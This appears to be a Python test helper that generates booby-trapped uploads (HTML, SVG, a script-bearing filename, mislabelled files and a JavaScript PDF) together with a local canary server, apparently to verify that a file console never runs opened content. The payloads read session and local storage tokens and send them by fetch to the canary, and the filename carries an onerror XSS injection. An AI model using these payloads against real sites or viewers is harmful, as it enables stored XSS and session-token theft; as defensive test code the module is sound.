"""Files that try to run something when they are opened, and a server that hears of it."""

import http.server
import threading


class Canary:
    """Remembers every request. Nothing that is opened in the console may make one."""

    def __init__(self):
        heard = self.heard = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                heard.append(f"{self.command} {self.path}")
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_OPTIONS = do_HEAD = do_GET

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()


def script(canary, name):
    """What each of them runs: it tells the canary of itself, and of the token if it can reach one."""
    reach = "for (const w of [self, parent, top, opener]) { try { seen += JSON.stringify({...w.sessionStorage, ...w.localStorage}); " \
            "w.__canary = 1; } catch (e) {} }"
    return f"let seen = ''; {reach} fetch('{canary}/{name}?' + encodeURIComponent(seen));"


def files(canary):
    """Names, with their bytes and the content type that the store keeps."""
    html = f"<!doctype html><h1>hello</h1><script>{script(canary, 'html')}</script>"
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" onload="fetch(\'{canary}/svg-onload\')">'
           f'<rect width="200" height="100" fill="teal"/><image href="{canary}/svg-image"/>'
           f"<script>{script(canary, 'svg').replace('&', '&amp;')}</script></svg>")
    # Quotes that work without a slash, which a name cannot hold.
    name = f"<img src=x onerror=fetch('{canary}'.concat(String.fromCharCode(47),'name'))>.html".replace("/", "")
    return {
        name: (html.encode(), "text/html"),
        "page.html": (html.encode(), "text/html"),
        "page.txt": (html.encode(), "text/html"),
        "drawing.svg": (svg.encode(), "image/svg+xml"),
        "photo.png": (svg.encode(), "image/svg+xml"),
        "paper.pdf": (pdf(canary), "application/pdf"),
        "page.pdf": (html.encode(), "text/html"),
        "both.pdf": (html.encode() + b"%PDF-1.7\n", "text/html"),
    }


def pdf(canary):
    """A PDF that runs JavaScript when it is opened, and follows a link when its page is shown.

    Chromium's viewer runs the script, in an engine of its own that has neither a page nor the network. Each call stands alone, so
    that one that fails does not keep the next from being tried.
    """
    tried = [f'app.launchURL("{canary}/launch", true)', f'this.getURL("{canary}/get")', f'this.submitForm({{cURL: "{canary}/submit"}})',
             f'fetch("{canary}/fetch")', 'parent.__canary = 1', 'top.__canary = 1']
    calls = "".join(f"try {{ {call}; }} catch (e) {{}} " for call in tried).replace("(", "\\(").replace(")", "\\)")
    text = "BT /F 24 Tf 30 100 Td (A PDF with JavaScript) Tj ET"
    objects = [
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F 6 0 R >> >> "
        f"/AA << /O << /S /URI /URI ({canary}/shown) >> >> >>",
        f"<< /Length {len(text)} >>\nstream\n{text}\nendstream",
        f"<< /S /JavaScript /JS ({calls}) >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out, offsets = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{content}\nendobj\n".encode()
    table = "".join(f"{offset:010} 00000 n \n" for offset in offsets)
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}".encode()
    return out + f"trailer << /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()
